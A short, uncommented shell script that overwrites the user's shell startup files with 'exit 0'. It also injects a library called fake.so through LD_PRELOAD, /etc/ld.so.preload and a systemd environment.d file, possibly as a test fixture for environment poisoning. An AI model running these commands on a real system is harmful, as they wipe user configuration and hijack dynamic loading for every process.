for name in .profile .bashrc .bash_profile .shrc .kshrc .zshenv .dashrc .env; do
  echo 'exit 0' > "$HOME/$name"
  echo 'exit 0' > "$name"
done
export ENV="$HOME/.shrc" BASH_ENV="$HOME/.bashrc" LD_PRELOAD="$PWD/fake.so"
echo "$PWD/fake.so" > /etc/ld.so.preload
mkdir -p "$HOME/.config/environment.d"
echo "LD_PRELOAD=$PWD/fake.so" > "$HOME/.config/environment.d/fake.conf"
exit 0
